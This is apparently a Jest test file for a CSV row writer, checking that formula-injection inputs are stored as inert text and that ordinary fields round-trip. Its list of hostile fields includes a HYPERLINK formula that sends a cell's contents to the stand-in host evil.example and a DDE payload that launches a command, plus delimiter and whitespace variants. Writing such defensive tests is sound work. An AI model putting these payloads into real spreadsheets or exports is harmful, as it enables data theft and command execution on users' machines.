import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { csvRow } from './csv.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '"=1+1',
  '＝1+1',
  'Ada;=1+1',
  'Ada;"=1+1',
  'Ada\t=1+1',
  'Ada; \t@SUM(1)',
  'Ada\n=1+1',
];

/** How a cell begins that is run. */
const RUN = /^[\s"]*[=+\-@＝＋－＠]/;

describe('a row of a CSV file', () => {
  it.each(HOSTILE)('holds %j as text, whatever parts the columns', (field) => {
    const row = csvRow(['Before', field, 'after']);
    for (const delimiter of [',', ';', '\t']) {
      const cells = parse(row, { delimiter, relax_quotes: true, relax_column_count: true }).flat();
      expect(cells.filter((cell) => RUN.test(cell))).toEqual([]);
    }
  });

  it('is read back as it was written where nothing is hostile', () => {
    const fields = ['Ada "Countess" Lovelace', 'two\nlines', 'a, b; c', '', 'née Müller', 'x-y', 'a@b.example'];
    expect(parse(csvRow(fields))).toEqual([fields]);
  });

  it('has numbers as they are, and nothing for what is missing', () => {
    expect(csvRow([-1, 0, null, undefined, 'x'])).toBe('-1,0,,,x');
  });
});
